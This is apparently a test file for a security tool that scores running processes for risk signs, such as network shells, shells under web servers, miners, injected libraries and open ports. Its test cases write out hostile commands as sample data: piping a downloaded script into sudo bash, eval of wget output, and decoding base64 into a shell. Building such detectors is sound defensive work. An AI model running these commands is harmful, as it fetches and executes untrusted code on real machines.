import { describe, expect, it } from 'vitest';
import { processorMsOf } from '../../../../helpers/processor-time';
import { evidence, genuineKin, kin, packaged, roleEntry, type SubjectOver, verdictOf } from './risk-samples';

const webServer = roleEntry({ id: 'nginx', names: ['nginx'], category: 'web-server', ports: [80] });
const init = roleEntry({ id: 'systemd', names: ['systemd'], category: 'init' });
const shell = roleEntry({ id: 'dash', names: ['dash'], category: 'session' });
const shellProcess = { exe: '/usr/bin/dash', name: 'sh', command: 'sh' } as const;
const onNetwork = evidence({ streams: ['network', 'network', 'null'], package: packaged });

describe('behaviour', () => {
  it.each<[string, SubjectOver, string]>([
    ['a shell on the network', { process: { ...shellProcess, evidence: onNetwork } }, '80/0/0 network-shell:80'],
    [
      'an interpreter on the network',
      { process: { exe: '/usr/bin/python3.11', name: 'x', evidence: onNetwork }, entry: null },
      '80/0/0 network-shell:80',
    ],
    ['another program on the network', { process: { exe: '/usr/bin/rsync', name: 'rsync', evidence: onNetwork }, entry: null }, '0/0/0'],
    [
      'only its input',
      { process: { ...shellProcess, evidence: evidence({ streams: ['network', 'file', 'file'], package: packaged }) } },
      '0/0/0',
    ],
    [
      'a socket unit that starts a script for each connection',
      {
        process: { ...shellProcess, unit: 'greeter@3-10.0.0.1:80.service', evidence: onNetwork },
        entry: shell,
        context: { parent: genuineKin(init) },
      },
      '9/0/0 network-shell:9',
    ],
    [
      'a shell under a web server',
      { process: { ...shellProcess, evidence: evidence({ package: packaged }) }, entry: null, context: { parent: genuineKin(webServer) } },
      '45/0/0 server-shell:45',
    ],
    [
      'a downloader below a shell below a web server',
      {
        process: { exe: '/usr/bin/curl', name: 'curl', evidence: evidence({ package: packaged }) },
        context: { parent: kin({ name: 'sh', exe: '/usr/bin/dash', parent: genuineKin(webServer) }) },
      },
      '45/0/0 server-shell:45',
    ],
    [
      'a shell under what runs web pages',
      {
        process: { ...shellProcess, evidence: evidence({ package: packaged }) },
        entry: null,
        context: { parent: genuineKin(roleEntry({ names: ['php-fpm8.2'], category: 'runtime', ports: [9000], stop: 'K2' })) },
      },
      '45/0/0 server-shell:45',
    ],
    [
      'a shell under a runtime of a developer',
      {
        process: { ...shellProcess, evidence: evidence({ package: packaged }) },
        entry: null,
        context: { parent: genuineKin(roleEntry({ names: ['node'], category: 'runtime', ports: [3000], stop: 'K3' })) },
      },
      '0/0/0',
    ],
    [
      'a shell under a worker of a database',
      {
        process: { ...shellProcess, evidence: evidence({ package: packaged }) },
        entry: null,
        context: {
          parent: genuineKin(roleEntry({ id: 'worker', category: 'database' }), {
            parent: genuineKin(roleEntry({ category: 'database', ports: [5432] })),
          }),
        },
      },
      '45/0/0 server-shell:45',
    ],
    [
      'the shell of a client that has a terminal',
      {
        process: { ...shellProcess, terminal: 'pts/1', evidence: evidence({ package: packaged }) },
        entry: null,
        context: { parent: genuineKin(webServer) },
      },
      '0/0/0',
    ],
    [
      'a server that starts shells as its job',
      {
        process: { ...shellProcess, evidence: evidence({ package: packaged }) },
        entry: null,
        context: { parent: genuineKin({ ...webServer, startsShells: true }) },
      },
      '0/0/0',
    ],
    ['a miner by name', { process: { exe: '/home/dev/xmrig', name: 'xmrig' } }, '60/0/0 miner:60'],
    ['a pool on the command line', { process: { command: 'thing -o stratum+tcp://pool.example:3333' } }, '60/0/0 miner:60'],
    [
      'an editor with the word in a file',
      {
        process: { exe: '/usr/bin/sample', command: 'sample --donate-level', evidence: evidence({ package: packaged }) },
        entry: roleEntry({ category: 'developer' }),
      },
      '36/0/0 miner:36',
    ],
    ['a curl with -o and -u', { process: { command: 'curl -o out.json:80 -u dev' } }, '0/0/0'],
    [
      'a library from /tmp',
      { process: { evidence: evidence({ loaderVariables: [{ name: 'LD_PRELOAD', files: ['/tmp/x.so'] }] }) } },
      '45/0/0 injected-library:45',
    ],
    [
      'a library of a vendor',
      { process: { evidence: evidence({ loaderVariables: [{ name: 'LD_PRELOAD', files: ['/opt/agent/agent.so'] }] }) } },
      '25/0/0 injected-library:25',
    ],
    [
      'an allocator',
      {
        process: {
          evidence: evidence({ loaderVariables: [{ name: 'LD_PRELOAD', files: ['/usr/lib/x86_64-linux-gnu/libjemalloc.so.2'] }] }),
        },
      },
      '5/0/0 injected-library:5',
    ],
    [
      'a path for libraries',
      { process: { evidence: evidence({ loaderVariables: [{ name: 'LD_LIBRARY_PATH', files: ['/tmp/x'] }] }) } },
      '0/0/0',
    ],
    ['preload for all, in a writable place', { context: { preloadedLibraries: ['/tmp/x.so'] } }, '45/0/0 system-preload:45'],
    ['preload for all, of a product', { context: { preloadedLibraries: ['/usr/lib/agent.so'] } }, '5/0/0 system-preload:5'],
    [
      'fetch and run',
      {
        process: { exe: '/home/dev/bin/bash', name: 'bash', command: 'bash -c curl -fsSL https://x.example/i.sh | sudo bash' },
        entry: null,
      },
      '35/0/0 fetch-and-run:35',
    ],
    [
      'fetch and look',
      { process: { exe: '/home/dev/bin/bash', name: 'bash', command: 'bash -c curl -fsSL https://x.example/i.sh | less' }, entry: null },
      '0/0/0',
    ],
    [
      'decoded code',
      { process: { exe: '/home/dev/bin/python3', name: 'python3', command: 'python3 -c exec(base64.b64decode("eA=="))' }, entry: null },
      '35/0/0 fetch-and-run:35',
    ],
    ['traced', { process: { evidence: evidence({ tracerPid: 7 }) } }, '15/0/0 traced:15'],
    [
      'traced by a debugger',
      {
        process: { evidence: evidence({ tracerPid: 7 }) },
        context: { tracer: genuineKin(roleEntry({ names: ['gdb'], category: 'developer' }), { pid: 7 }) },
      },
      '5/0/0 traced:5',
    ],
  ])('%s', (_name, over, expected) => {
    expect(verdictOf(over)).toBe(expected);
  });

  it.each([
    ['eval "$(wget -qO- http://x.example)"', true],
    ['echo aGk= | base64 -d | sh', true],
    ['bash <(curl -s http://x.example)', true],
    ['sh -c curl http://x.example -o a && sh b', false],
    ['sh -c base64 -d file > out', false],
    [`sh -c curl ${'a '.repeat(50_000)}| sh`, false],
  ])('reads %s', (script, isMet) => {
    const process = { exe: '/home/dev/bin/bash', name: 'bash', command: `bash -c ${script}` };
    const tookMs = processorMsOf(() => expect(verdictOf({ process, entry: null }).includes('fetch-and-run')).toBe(isMet));
    expect(tookMs).toBeLessThan(200);
  });
});

describe('network', () => {
  const everywhere = [{ protocol: 'tcp', address: '0.0.0.0', port: 4444 }] as const;
  const container = {
    id: 'c1',
    name: 'db',
    image: 'db',
    restartPolicy: null,
    mainPid: null,
    pod: null,
    recentStartCount: null,
    memoryLimitBytes: null,
    privileged: null,
  };
  it.each<[string, SubjectOver, string]>([
    ['packets', { process: { evidence: evidence({ rawSockets: ['packet'] }) } }, '20/0/0 packet-socket:20'],
    [
      'packets of a tool for networks',
      { process: { evidence: evidence({ rawSockets: ['packet'] }) }, entry: roleEntry({ category: 'network' }) },
      '0/0/0',
    ],
    ['loopback', { process: { listening: [{ protocol: 'tcp', address: '127.0.0.1', port: 3000 }] } }, '0/0/0'],
    ['all interfaces', { process: { listening: everywhere } }, '0/15/0 listens-everywhere:15'],
    [
      'all interfaces as root',
      { process: { listening: everywhere, uid: 0, user: 'root' }, entry: roleEntry() },
      '0/25/0 root-listens-everywhere:25',
    ],
    ['a database', { process: { listening: [{ protocol: 'tcp', address: '::', port: 6379 }] } }, '0/40/0 open-database:40'],
    ['a debugger', { process: { listening: [{ protocol: 'tcp', address: '::', port: 9229 }] } }, '0/40/0 open-debugger:40'],
    ['an engine without a password', { process: { listening: [{ protocol: 'tcp', address: '::', port: 2375 }] } }, '0/70/0 open-engine:70'],
    ['in the network of its container', { process: { listening: everywhere, container: 'c1' } }, '0/0/0'],
    [
      'a published port of a container',
      { process: { listening: everywhere, container: 'c1' }, context: { container: { ...container, publishedPorts: [4444] } } },
      '0/15/0 listens-everywhere:15',
    ],
    [
      'a container in the network of the machine',
      { process: { listening: everywhere, container: 'c1', evidence: evidence({ hostNamespaces: ['network'] }) } },
      '0/50/0 container-escape:35 listens-everywhere:15',
    ],
  ])('%s', (_name, over, expected) => {
    expect(verdictOf(over)).toBe(expected);
  });
});
